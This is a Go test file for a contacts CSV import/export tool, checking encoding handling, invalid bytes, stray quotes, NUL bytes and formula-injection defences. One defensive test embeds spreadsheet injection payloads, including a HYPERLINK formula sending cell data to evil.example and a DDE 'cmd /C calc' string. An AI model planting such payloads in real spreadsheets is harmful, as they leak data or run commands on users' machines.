package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/text/encoding/japanese"
)

// The findings of issue 13, each as a test: they failed on the code
// before the import engine (app/transfer) existed.

// writeFile writes b into dir/name and returns the path.
func writeFile(t *testing.T, dir, name string, b []byte) string {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.WriteFile(p, b, 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

func sjis(t *testing.T, s string) []byte {
	t.Helper()
	b, err := japanese.ShiftJIS.NewEncoder().Bytes([]byte(s))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// A CSV saved by Japanese Excel (Shift_JIS / CP932) imported as mojibake
// with "rejected 0 rows".
func TestFindingShiftJISIsDecoded(t *testing.T) {
	dir := t.TempDir()
	in := writeFile(t, dir, "excel.csv", sjis(t, "姓,名,メールアドレス,会社名\r\n山田,太郎,taro@example.jp,山田商事\r\n髙橋,花子,hanako@example.jp,株式会社①\r\n"))
	code, out, errs := tandem(t, dir, "contacts", "import", in)
	if code != 0 {
		t.Fatalf("import: %d\n%s\n%s", code, out, errs)
	}
	code, out, _ = tandem(t, dir, "contacts", "list", "-q", "山田")
	if code != 0 || !strings.Contains(out, "山田 太郎") || !strings.Contains(out, "山田商事") {
		t.Errorf("山田 太郎 of 山田商事 not found after a Shift_JIS import: %q", out)
	}
	code, out, _ = tandem(t, dir, "contacts", "list", "-q", "髙橋")
	if code != 0 || !strings.Contains(out, "髙橋 花子") || !strings.Contains(out, "株式会社①") {
		t.Errorf("CP932 characters (髙, ①) not decoded: %q", out)
	}
}

// A file whose bytes are not valid in its encoding is refused with the
// line number, never stored as mojibake.
func TestFindingInvalidBytesRefusedWithLine(t *testing.T) {
	dir := t.TempDir()
	b := []byte("last_name,email\nYamada,y@example.jp\n")
	b = append(b, "Suzuki,s@example.jp\nBad"...)
	b = append(b, 0xff, 0xfe, 0xfd)
	b = append(b, ",b@example.jp\n"...)
	in := writeFile(t, dir, "bad.csv", b)
	code, out, errs := tandem(t, dir, "contacts", "import", "-encoding", "utf-8", in)
	if code == 0 || !strings.Contains(errs, "Line 4") {
		t.Errorf("invalid UTF-8 on line 4: exit %d, stdout %q, stderr %q", code, out, errs)
	}
	_, out, _ = tandem(t, dir, "contacts", "list")
	if strings.Contains(out, "Bad") || strings.Contains(out, "\ufffd") {
		t.Errorf("a row with invalid bytes was stored: %q", out)
	}
}

// Spreadsheet formula injection: export wrote cells starting with = + - @
// unchanged.
func TestFindingExportNeutralisesFormulas(t *testing.T) {
	dir := t.TempDir()
	evil := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	in := writeFile(t, dir, "in.csv", []byte("last_name,first_name,title,notes\n"+
		`"`+strings.ReplaceAll(evil, `"`, `""`)+`",x,"+cmd|' /C calc'!A0","@SUM(1+1)"`+"\n"))
	if code, out, errs := tandem(t, dir, "contacts", "import", in); code != 0 {
		t.Fatalf("import: %d %s %s", code, out, errs)
	}
	exp := filepath.Join(dir, "out.csv")
	if code, _, errs := tandem(t, dir, "contacts", "export", exp); code != 0 {
		t.Fatalf("export: %s", errs)
	}
	b, _ := os.ReadFile(exp)
	for _, live := range []string{",\"=HYPERLINK", ",=HYPERLINK", ",+cmd", ",@SUM", "\n=", "\n+", "\n@"} {
		if bytes.Contains(b, []byte(live)) {
			t.Errorf("export has a live formula cell %q:\n%s", live, b)
		}
	}
	if !bytes.Contains(b, []byte(`'=HYPERLINK`)) || !bytes.Contains(b, []byte(`'+cmd`)) {
		t.Errorf("export does not neutralise with a leading ':\n%s", b)
	}
}

// Import trimmed a leading tab, so an already-neutralised "\t=1+1" came
// back live.
func TestFindingImportKeepsNeutralisingTab(t *testing.T) {
	dir := t.TempDir()
	in := writeFile(t, dir, "in.csv", []byte("last_name,title\nYoung,\"\t=1+1\"\n"))
	if code, out, errs := tandem(t, dir, "contacts", "import", in); code != 0 {
		t.Fatalf("import: %d %s %s", code, out, errs)
	}
	exp := filepath.Join(dir, "out.csv")
	if code, _, errs := tandem(t, dir, "contacts", "export", "-raw", exp); code != 0 {
		t.Fatalf("export: %s", errs)
	}
	b, _ := os.ReadFile(exp)
	if !bytes.Contains(b, []byte("\t=1+1")) {
		t.Errorf("the tab before =1+1 was lost on import:\n%q", b)
	}
}

// An unbalanced quote swallowed the next rows into a last name, with
// "1 contact, rejected 0 rows".
func TestFindingStrayQuoteIsReported(t *testing.T) {
	dir := t.TempDir()
	in := writeFile(t, dir, "in.csv", []byte("first_name,last_name,email\n"+
		"Taro,\"Yamada,taro@example.jp\n"+
		"Hanako,Suzuki,hanako@example.jp\n"+
		"Jiro,Sato\",jiro@example.jp\n"))
	code, out, errs := tandem(t, dir, "contacts", "import", in)
	if code != 3 {
		t.Errorf("want exit 3 (rows refused), got %d: %s %s", code, out, errs)
	}
	if !strings.Contains(errs, "row 1") || !strings.Contains(errs, "quote") {
		t.Errorf("the stray quote on row 1 is not explained: %q", errs)
	}
	_, list, _ := tandem(t, dir, "contacts", "list")
	if strings.Contains(list, "Suzuki") && strings.Contains(list, "Yamada") && !strings.Contains(list, "hanako") {
		t.Errorf("rows vanished into a last name: %q", list)
	}
}

// NUL bytes and a byte-order mark in the middle of a file were stored raw
// (and the BOM broke search).
func TestFindingNULAndMidFileBOM(t *testing.T) {
	dir := t.TempDir()
	in := writeFile(t, dir, "in.csv", []byte("\ufefflast_name,email\nYamada,y@example.jp\n\ufeffSuzuki,s@example.jp\nNu\x00ll,n@example.jp\n"))
	code, out, errs := tandem(t, dir, "contacts", "import", in)
	if code != 3 || !strings.Contains(errs, "row 3") || !strings.Contains(strings.ToLower(errs), "nul") {
		t.Errorf("the NUL on row 3 is not refused with its row: %d %q %q", code, out, errs)
	}
	_, list, _ := tandem(t, dir, "contacts", "list", "-q", "Suzuki")
	if !strings.Contains(list, "Suzuki") || strings.Contains(list, "\ufeff") {
		t.Errorf("Suzuki behind a mid-file BOM is not found cleanly: %q", list)
	}
	_, all, _ := tandem(t, dir, "contacts", "list")
	if strings.Contains(all, "\x00") {
		t.Errorf("a NUL byte was stored: %q", all)
	}
}
